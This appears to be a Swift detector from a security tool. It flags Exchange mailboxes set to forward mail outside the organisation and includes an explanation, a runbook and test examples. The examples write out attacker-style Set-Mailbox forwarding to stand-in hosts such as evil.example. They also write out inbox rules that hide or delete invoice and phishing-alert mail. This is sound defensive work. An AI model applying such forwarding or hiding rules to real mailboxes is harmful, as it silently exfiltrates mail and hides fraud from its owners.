import BreakwaterModel

/// Mailbox forwarding to an address outside the organisation: every message the mailbox
/// receives from then on is copied out, with no rule for the owner to notice.
struct MailboxExternalForwarding: Detector {
    let descriptor = DetectorDescriptor(
        id: "Exchange.Mailbox.ExternalForwarding", title: "Mailbox forwards mail outside", category: .mailboxForwardingExternal,
        severity: .medium, stage: .exfiltration, attack: [.emailForwardingRule],
        explanation: """
            Set-Mailbox -ForwardingSmtpAddress (or -ForwardingAddress) makes Exchange forward every message the mailbox \
            receives, silently and without an inbox rule for the owner to find in Outlook. Attackers set it to watch a \
            conversation about money from outside, and it keeps working after the password is reset. It is reported when the \
            destination is outside the tenant's domains: medium, high when DeliverToMailboxAndForward is False (the owner no \
            longer sees the mail, so replies to the attacker's fraud go unseen) or when the change comes from an address or \
            session already suspected. A forwarding to a recipient named rather than addressed (it may be a mail contact \
            pointing outside) is reported only from a suspected address or session. It is staged as exfiltration rather \
            than persistence because from the moment it is set the tenant's mail leaves it; the runbook covers the \
            persistence. Clearing forwarding ($null) and forwarding inside the organisation are not reported.
            """,
        falsePositives: """
            People forward work mail to a personal address (against most policies, but not an attack), and administrators \
            forward a leaver's mailbox to a manager at a partner company. Both keep a copy in the mailbox more often than \
            not. Confirm with the owner; suppress by destination when the forwarding is sanctioned.
            """,
        runbook: """
            Ask the owner whether they set it. If not: clear it (Set-Mailbox -ForwardingSmtpAddress $null \
            -DeliverToMailboxAndForward $false), block automatic external forwarding in the outbound spam policy, revoke the \
            user's sessions and reset the password, then check the mailbox's inbox rules and delegates for the attacker's \
            other footholds and find out what was forwarded (message trace to the destination).
            """)

    let kinds: Set<ActionKind> = [.mailboxForwardingChanged]

    func inspect(_ event: Event, in context: inout DetectionContext) {
        guard event.outcome != .failed else { return }
        let parameters = event.parameters
        let destinations = (parameters.values(named: "ForwardingSmtpAddress") + parameters.values(named: "ForwardingAddress"))
            .flatMap(RecipientList.parse)
        guard !destinations.isEmpty else { return }
        let external = destinations.filter { RecipientList.isAddress($0) && !context.configuration.isInternal($0) }
        let unresolved = destinations.filter { !RecipientList.isAddress($0) }
        let suspected = context.isSuspected(event)
        let reported = external.isEmpty ? (suspected ? unresolved : []) : external
        guard !reported.isEmpty else { return }

        let keepsCopy = parameters["DeliverToMailboxAndForward"].map(PropertyValue.isTrue)
        var reasons: [String] = []
        var severity: Severity = .medium
        if keepsCopy == false {
            severity = .high
            reasons.append("the mailbox keeps no copy")
        }
        if suspected {
            severity = .high
            reasons.append("set from an address or session already suspected")
        }
        let mailbox = Self.mailbox(of: event, parameters: parameters) ?? context.user
        let destination = reported.joined(separator: ", ")
        var details = ["destination": destination, "mailbox": mailbox]
        if let keepsCopy { details["keepsCopy"] = keepsCopy ? "true" : "false" }
        let reasonText = reasons.isEmpty ? "" : " (\(reasons.joined(separator: "; ")))"
        context.raise(
            Finding(
                key: "\(mailbox.identityLowercased)|\(destination.identityLowercased)",
                summary: "Mailbox \(mailbox) forwards all mail to \(destination)\(reasonText)",
                evidence: [event.id], severity: severity, details: details))
    }

    /// The mailbox changed, as written: `Identity`, else `ObjectId`.
    static func mailbox(of event: Event, parameters: PropertyBag) -> String? {
        let identity = PropertyValue.unwrapped(parameters["Identity"] ?? event.record.objectID)
        return identity.isEmpty ? nil : identity
    }

    var examples: [DetectorExample] {
        let megan = "megan.bowen@contoso.com"
        return [
            DetectorExample("forwarding outside with no copy kept", .raises(.high)) { timeline in
                timeline.at(day: 3, "09:16")
                timeline.cmdlet(
                    "Set-Mailbox", by: megan, from: .homeGB,
                    parameters: [
                        "Identity": megan, "ForwardingSmtpAddress": "smtp:payroll-update@evil.example", "DeliverToMailboxAndForward": "False",
                    ],
                    objectID: "Megan Bowen")
            },
            DetectorExample("forwarding to a personal address, keeping a copy", .raises(.medium)) { timeline in
                timeline.cmdlet(
                    "Set-Mailbox", by: megan, from: .homeGB,
                    parameters: [
                        "Identity": megan, "ForwardingSmtpAddress": "smtp:megan.b.1987@mailbox.example", "DeliverToMailboxAndForward": "True",
                    ])
            },
            DetectorExample("forwarding outside from the address of a hiding rule", .raises(.high)) { timeline in
                timeline.at(day: 3, "09:14")
                timeline.cmdlet(
                    "New-InboxRule", by: megan, from: .hostingNL,
                    parameters: ["Name": ".", "SubjectOrBodyContainsWords": "invoice;payment", "MoveToFolder": "RSS Feeds", "MarkAsRead": "True"])
                timeline.advance(minutes: 2)
                timeline.cmdlet(
                    "Set-Mailbox", by: megan, from: .hostingNL,
                    parameters: ["Identity": megan, "ForwardingSmtpAddress": "'ap-desk@evil.example'", "DeliverToMailboxAndForward": "$true"])
            },
            DetectorExample("an administrator forwarding a mailbox in PowerShell's own spelling", .raises(.high)) { timeline in
                timeline.cmdlet(
                    "Set-Mailbox", by: "admin@contoso.com", from: .officeGB,
                    parameters: [
                        "Identity": "Megan Bowen", "ForwardingSmtpAddress": "\"SMTP:Collector@Evil.Example\"", "DeliverToMailboxAndForward": "$false",
                    ],
                    objectID: "Megan Bowen")
            },
            DetectorExample("forwarding to a recipient by name from a suspected address", .raises(.high)) { timeline in
                timeline.cmdlet(
                    "New-InboxRule", by: megan, from: .hostingNL,
                    parameters: ["Name": "..", "SubjectOrBodyContainsWords": "hacked;phishing", "DeleteMessage": "True"])
                timeline.advance(minutes: 5)
                timeline.cmdlet(
                    "Set-Mailbox", by: megan, from: .hostingNL, parameters: ["Identity": megan, "ForwardingAddress": "Accounts Payable Archive"])
            },
            DetectorExample("forwarding to a colleague", .silent) { timeline in
                timeline.cmdlet(
                    "Set-Mailbox", by: megan, from: .homeGB,
                    parameters: ["Identity": megan, "ForwardingSmtpAddress": "smtp:adele.vance@contoso.com", "DeliverToMailboxAndForward": "False"])
            },
            DetectorExample("an administrator forwarding a leaver's mailbox to their manager by name", .silent) { timeline in
                timeline.cmdlet(
                    "Set-Mailbox", by: "admin@contoso.com", from: .officeGB,
                    parameters: ["Identity": "leaver@contoso.com", "ForwardingAddress": "Adele Vance", "DeliverToMailboxAndForward": "True"])
            },
            DetectorExample("forwarding to a subdomain of the tenant", .silent) { timeline in
                timeline.cmdlet(
                    "Set-Mailbox", by: megan, from: .homeGB, parameters: ["Identity": megan, "ForwardingSmtpAddress": "smtp:megan@eu.contoso.com"])
            },
            DetectorExample("forwarding removed", .silent) { timeline in
                timeline.cmdlet(
                    "Set-Mailbox", by: megan, from: .homeGB,
                    parameters: ["Identity": megan, "ForwardingSmtpAddress": "$null", "DeliverToMailboxAndForward": "False"])
            },
        ]
    }
}
